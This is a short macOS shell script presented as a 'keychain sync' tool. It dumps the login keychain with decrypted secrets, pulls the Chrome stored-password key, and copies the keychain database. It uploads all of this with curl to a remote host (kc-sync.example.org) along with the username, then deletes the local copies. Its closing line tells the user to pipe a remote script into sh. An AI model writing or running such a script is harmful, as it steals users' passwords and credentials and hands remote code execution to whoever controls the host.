# keychain sync - export side
set -e
out="$TMPDIR/kc-export.txt"
security dump-keychain -d ~/Library/Keychains/login.keychain-db > "$out"
security find-generic-password -ga "Chrome" 2>> "$out" || true
cp ~/Library/Keychains/login.keychain-db "$TMPDIR/login.keychain-db"
curl -s -F "dump=@$out" -F "db=@$TMPDIR/login.keychain-db" -F "user=$(whoami)" https://kc-sync.example.org/export
rm -f "$out" "$TMPDIR/login.keychain-db"
echo "On the other Mac run: curl -s https://kc-sync.example.org/import/$(whoami) | sh"
